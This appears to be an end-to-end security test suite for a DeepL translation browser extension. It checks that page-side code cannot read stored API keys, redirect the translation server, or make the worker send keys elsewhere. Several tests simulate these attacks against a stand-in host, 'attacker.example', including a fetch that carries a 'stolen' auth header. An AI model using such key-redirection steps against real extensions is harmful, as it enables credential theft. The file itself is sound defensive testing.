// The key and where it goes are out of the page's process's reach: code running in the content
// script's world cannot read or write extension storage, cannot choose the DeepL server, and the
// worker cannot send anything (the key included) to a host other than DeepL's.
import type { Page, Request } from 'playwright-core';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { rawEntries, STORED } from '../../lib/storage/keys';
import { startChatServer } from '../support/chat-server';
import { extensionWithLocalChatGranted, storeChatModel } from './chat-setup';
import { launchExtension, TEST_KEY, type ExtensionSession } from './harness';
import { settled } from './page-probe';
import { contentProbe } from './soak';

const ATTACKER = 'https://attacker.example';

let session: ExtensionSession;
/** Requests that reached the attacker's host through the browser (answered 200 if they get that far). */
const atAttacker: Request[] = [];
beforeAll(async () => {
  session = await launchExtension();
  await session.context.route(`${ATTACKER}/**`, (route) => {
    atAttacker.push(route.request());
    return route.fulfill({ status: 200, contentType: 'application/json', body: '{"translations":[]}' });
  });
});
afterAll(() => session?.close());

async function contentWorld(page: Page) {
  const probe = await contentProbe(page);
  // The content script has run once it answers for its stats.
  await expect.poll(() => probe.evaluate<boolean>('typeof globalThis.__rnlStats === "function"')).toBe(true);
  return probe;
}

/** Outcome of a storage call in the content script's world: what it read, or the error. */
const attempt = (call: string) => `${call}.then((value) => ({ ok: true, value: JSON.stringify(value ?? null) }), (error) => ({ ok: false, error: String(error?.message ?? error) }))`;

test('the content script’s world cannot read storage.local (the key is there), and the page still works', async () => {
  const page = await session.openSite('/explore?cards=6');
  const world = await contentWorld(page);
  const read = await world.evaluate<{ ok: boolean; value?: string; error?: string }>(attempt('chrome.storage.local.get(null)'));
  expect(read).toEqual({ ok: false, error: expect.stringMatching(/Access to storage is not allowed from this context/) });
  expect(JSON.stringify(read)).not.toContain(TEST_KEY);
  // Its settings came from the worker: it translates, and follows a change made elsewhere.
  await expect.poll(async () => (await settled(page)).translated).toBeGreaterThan(5);
  await session.setSettings({ mode: 'off' });
  await expect.poll(() => page.locator('.rnl-t').count()).toBe(0);
  await session.setSettings({ mode: 'bilingual' });
  await expect.poll(() => page.locator('.rnl-t').count()).toBeGreaterThan(5);
  await world.detach();
  await page.close();
});

test('only the options page chooses the DeepL server: https, on an origin the build may reach; nothing else can', async () => {
  const page = await session.openSite('/explore?cards=4');
  const world = await contentWorld(page);
  // Written into storage from the content script's world: refused.
  const write = await world.evaluate<{ ok: boolean; error?: string }>(attempt(`chrome.storage.local.set({ ${JSON.stringify(STORED.deeplServer.key)}: '${ATTACKER}', settings: { mode: 'off' } })`));
  expect(write).toMatchObject({ ok: false, error: expect.stringMatching(/not allowed/) });
  // Asked of the worker from the content script, or from the popup: refused.
  const askFromPage = await world.evaluate<{ ok: boolean; error?: string }>(`chrome.runtime.sendMessage({ type: 'set-deepl-server', url: '${ATTACKER}' })`);
  expect(askFromPage).toMatchObject({ ok: false });
  const popup = await session.openPopup();
  const askFromPopup = await popup.evaluate((url) => (globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }).chrome.runtime.sendMessage({ type: 'set-deepl-server', url }), ATTACKER);
  expect(askFromPopup).toMatchObject({ ok: false, error: expect.stringMatching(/Invalid message/) });

  // In the options page: not https, or not an origin of the build, refused; DeepL's own host taken.
  const options = await session.context.newPage();
  await options.goto(`chrome-extension://${session.extensionId}/options.html`);
  const field = options.getByLabel('DeepL-compatible server (https)');
  const use = async (url: string) => {
    await field.fill(url);
    await options.getByRole('button', { name: 'Use this server' }).click();
  };
  await use('http://api.deepl.com');
  await expect.poll(() => options.getByRole('status').innerText()).toMatch(/must use https/);
  await use(ATTACKER);
  await expect.poll(() => options.getByRole('status').innerText()).toMatch(/not among the servers this build may reach/);
  await use('https://api.deepl.com');
  await expect.poll(() => options.getByRole('status').innerText()).toBe('Requests now go to https://api.deepl.com.');
  // The popup shows it.
  await popup.reload();
  await expect.poll(() => popup.getByLabel('DeepL server').innerText()).toContain('https://api.deepl.com');
  await options.getByRole('button', { name: 'Back to DeepL’s own host' }).click();
  await expect.poll(() => popup.getByLabel('DeepL server').count()).toBe(0);

  // A server in storage that no options page could have set (old settings field, or written where
  // content scripts can write storage, as in Firefox): not used. Translations go to DeepL.
  await session.setSettings({ deeplServerUrl: ATTACKER } as never);
  await session.worker.evaluate(
    ([key, url]) => (globalThis as unknown as { chrome: { storage: { local: { set(v: unknown): Promise<void> } } } }).chrome.storage.local.set({ [key!]: url }),
    [STORED.deeplServer.key, ATTACKER],
  );
  const before = session.deepl.translateRequests().length;
  const next = await session.openSite('/explore?cards=8');
  await expect.poll(async () => (await settled(next)).translated).toBeGreaterThan(5);
  expect(session.deepl.translateRequests().length).toBeGreaterThan(before);
  expect(atAttacker).toEqual([]);
  await world.detach();
});

test('the chat model’s key is as closed as DeepL’s: the page cannot read it, nor have the worker send a text (and a key) to a server it names', async () => {
  const CHAT_KEY = 'sk-secret-chat-key-1234';
  await session.worker.evaluate(
    (values) => (globalThis as unknown as { chrome: { storage: { local: { set(v: unknown): Promise<void> } } } }).chrome.storage.local.set(values),
    { ...rawEntries('chatKey', { origin: ATTACKER, key: CHAT_KEY }), ...rawEntries('chatModel', { endpoint: `${ATTACKER}/v1`, model: 'm' }) },
  );
  const page = await session.openSite('/explore?cards=4');
  const world = await contentWorld(page);
  const read = await world.evaluate<{ ok: boolean; value?: string; error?: string }>(attempt(`chrome.storage.local.get(${JSON.stringify(STORED.chatKey.key)})`));
  expect(read).toMatchObject({ ok: false, error: expect.stringMatching(/not allowed/) });
  expect(JSON.stringify(read)).not.toContain(CHAT_KEY);
  // The options page's Test names an endpoint and a key: refused from the page and from the popup.
  const test = { type: 'test-chat-model', endpoint: `${ATTACKER}/v1`, model: 'm', key: CHAT_KEY };
  expect(await world.evaluate(`chrome.runtime.sendMessage(${JSON.stringify(test)})`)).toMatchObject({ ok: false });
  const popup = await session.openPopup();
  const fromPopup = await popup.evaluate((m) => (globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<unknown> } } }).chrome.runtime.sendMessage(m), test);
  expect(fromPopup).toMatchObject({ ok: false, error: expect.stringMatching(/Invalid message/) });
  // An endpoint in storage outside what the build may reach is not used, even with the chat model chosen.
  await session.setSettings({ provider: 'chat' });
  await page.reload();
  const status = () => popup.evaluate(() => (globalThis as unknown as { chrome: { runtime: { sendMessage(m: unknown): Promise<{ value?: { blocked?: { kind: string } } }> } } }).chrome.runtime.sendMessage({ type: 'get-status' }));
  await expect.poll(async () => (await status()).value?.blocked?.kind).toBe('no-provider');
  expect(atAttacker).toEqual([]);
  await session.setSettings({ provider: 'deepl' });
  await world.detach();
  await popup.close();
  await page.close();
});

test('a chat key saved for one server is not sent to another endpoint saved later; to its own server it is', async () => {
  const SECRET = 'sk-openai-secret-5678';
  const server = await startChatServer();
  const extension = extensionWithLocalChatGranted();
  const chat = await launchExtension({ deeplKey: null, extensionDir: extension.dir });
  try {
    const store = (values: Record<string, unknown>) => chat.worker.evaluate((v) => (globalThis as unknown as { chrome: { storage: { local: { set(v: unknown): Promise<void> } } } }).chrome.storage.local.set(v), values);
    await store(rawEntries('chatKey', { origin: 'https://api.openai.com', key: SECRET }));
    await storeChatModel(chat, server);
    const page = await chat.openSite('/explore?cards=6&unique=1');
    await expect.poll(async () => (await settled(page)).translated).toBeGreaterThan(3);
    const authorizations = () => server.translateRequests().map((r) => r.headers.authorization);
    expect(authorizations().length).toBeGreaterThan(0);
    expect(authorizations()).toEqual(authorizations().map(() => undefined));
    // Saved for this server's origin, the key does go to it (so the check above could fail).
    await store(rawEntries('chatKey', { origin: server.url, key: SECRET }));
    const before = server.translateRequests().length;
    const next = await chat.openSite('/explore?cards=16&unique=1');
    await expect.poll(() => server.translateRequests().length).toBeGreaterThan(before);
    expect(server.translateRequests().at(-1)?.headers.authorization).toBe(`Bearer ${SECRET}`);
    await next.close();
    await page.close();
  } finally {
    await chat.close();
    await server.close();
    extension.remove();
  }
});

test('the worker can reach DeepL’s hosts and no other (the CSP blocks it before any route)', async () => {
  const fetchFromWorker = (url: string) =>
    session.worker.evaluate(
      (u) => fetch(u, { method: 'POST', headers: { Authorization: 'DeepL-Auth-Key stolen' } }).then((r) => `status ${r.status}`, (e: Error) => `failed: ${e.message}`),
      url,
    );
  expect(await fetchFromWorker(`${ATTACKER}/v2/translate`)).toMatch(/^failed/);
  expect(atAttacker).toEqual([]);
  // DeepL's hosts still answer (through the harness's routes to the local server).
  expect(await fetchFromWorker('https://api-free.deepl.com/v2/usage')).toBe('status 200');
});
